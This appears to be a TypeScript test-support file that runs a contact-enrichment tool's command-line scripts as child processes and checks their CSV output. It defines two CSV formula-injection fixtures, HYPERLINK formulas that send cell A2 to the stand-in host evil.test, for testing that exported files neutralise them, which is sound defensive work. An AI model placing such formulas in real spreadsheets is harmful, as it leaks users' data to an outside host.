/** The repository's command lines run as a user runs them: a child process, its exit code and output. */
import { execFile, spawn, type ChildProcess } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { nodeBundle } from '../../../scripts/lib/node-bundle';
import { parseCsv } from '../../../scripts/lib/csv';
import { outputRows } from '../../../scripts/lib/sheet-outputs';
import { tempDir } from '../../support/temp-dir';

const ROOT = resolve(__dirname, '../../..');

export interface CliResult {
  code: number;
  stdout: string;
  stderr: string;
}

/**
 * Runs scripts/<script> from the repository root as `npm run` does after its build, from a bundle of
 * it (scripts/lib/node-bundle.ts) rather than through tsx: the same code, without tsx's start in each of
 * the 16 children a test pass makes.
 */
export async function runScript(
  script: string,
  args: string[],
  timeout = 60_000,
  env: Record<string, string> = {},
): Promise<CliResult> {
  const bundle = await nodeBundle(join('scripts', script));
  return new Promise((done) => {
    const child = execFile(
      process.execPath,
      ['--enable-source-maps', bundle, ...args],
      { cwd: ROOT, timeout, env: { ...directRun(), ...env } },
      (error, stdout, stderr) => {
        running.delete(child);
        done({ code: error ? Number(error.code ?? 1) : 0, stdout, stderr });
      },
    );
    running.add(child);
  });
}

/**
 * The environment of a command run by node itself: `npm test` run from a subfolder would otherwise
 * hand its INIT_CWD on, and the command would take relative paths from there (paths.ts).
 */
function directRun(): NodeJS.ProcessEnv {
  const { INIT_CWD: _from, npm_lifecycle_event: _script, ...env } = process.env;
  return env;
}

/**
 * The children still running. A test that ends before its command (a jest timeout on a loaded
 * machine: its limit is shorter than the command's) must not leave it running: it would hold the
 * jest worker open past its file ("a worker process has failed to exit gracefully").
 */
const running = new Set<ChildProcess>();

/** The process ids of the commands still running (for the test of this rule). */
export const runningScripts = (): number[] => [...running].map((child) => child.pid!);

afterEach(async () => {
  await Promise.all(
    [...running].map(async (child) => {
      running.delete(child);
      if (child.exitCode !== null || child.signalCode !== null) return;
      const exited = new Promise((resolvePromise) => child.once('exit', resolvePromise));
      child.kill('SIGTERM');
      await exited;
    }),
  );
});

/** A command line still running: kill it as a user would (Ctrl-C, a closed terminal, SIGKILL). */
export interface RunningScript {
  child: ChildProcess;
  done: Promise<CliResult>;
}

/** runScript without waiting: the test decides when the command ends. */
export async function startScript(script: string, args: string[]): Promise<RunningScript> {
  const bundle = await nodeBundle(join('scripts', script));
  const child = spawn(process.execPath, ['--enable-source-maps', bundle, ...args], {
    cwd: ROOT,
    env: directRun(),
  });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
  child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
  const done = new Promise<CliResult>((resolve) =>
    child.on('close', (code, signal) => resolve({ code: code ?? (signal ? 128 : 1), stdout, stderr })),
  );
  return { child, done };
}

/** Writes `name` in a fresh temporary folder: each test's output and state files stay its own (removed after the file). */
export function tempFile(name: string, content: string | Buffer): string {
  const file = join(tempDir('sheet-enrich-cli-'), name);
  writeFileSync(file, content);
  return file;
}

/** Formulas an API answer could carry: written as text, neither may run when a CSV is opened. */
export const HOSTILE_STATUS = '=HYPERLINK("http://evil.test/?leak="&A2,"Verified")';
export const HOSTILE_TITLE = '=HYPERLINK("http://evil.test/?leak="&A2,"VP")';
/** Someone the API answers about with such strings (extra emulator data): one for every command line. */
export const HOSTILE = {
  first_name: 'Mallory',
  last_name: 'Formula',
  company_domain: 'evil-formula.test',
  company_name: 'Evil Formula',
  title: HOSTILE_TITLE,
  work_email: 'mallory@evil-formula.test',
  work_email_status: HOSTILE_STATUS,
  phone: '+33 6 12 34 56 78',
  country_code: 'FR',
};

/**
 * Rows of an enriched CSV with a final status (neither pending, queued nor held as maybe bought);
 * an Excel `sep=` first line is not a row.
 */
export function answeredRows(out: string, delimiter = ','): number {
  const text = readFileSync(out, 'utf8').replace(/^sep=.\r?\n/, '');
  const rows = outputRows(parseCsv(text, delimiter), 'enrich');
  return rows.filter((row) => row.status && !/pending|queued|may have been/i.test(row.status)).length;
}

/**
 * Runs the command on 250 contacts (`name`.csv in a fresh folder) until its three starts have
 * answered and their ids are not saved yet, where it SIGKILLs itself (a failpoint: a random kill
 * lands there only now and then). Returns the input, output and state paths.
 */
export async function killedAtStartAnswers(
  name: string,
  content: string,
  args: string[],
): Promise<{ file: string; out: string; state: string }> {
  const file = tempFile(`${name}.csv`, content);
  const killed = await runScript('enrich.ts', [file, ...args], 60_000, {
    SHEET_ENRICH_KILL_AT: 'start-answers',
  });
  if (killed.code === 0) throw new Error(`not killed:\n${killed.stdout}${killed.stderr}`);
  const beside = (suffix: string) => join(file, '..', `${name}${suffix}`);
  return { file, out: beside('.enriched.csv'), state: beside('.sheet-enrich-state.json') };
}
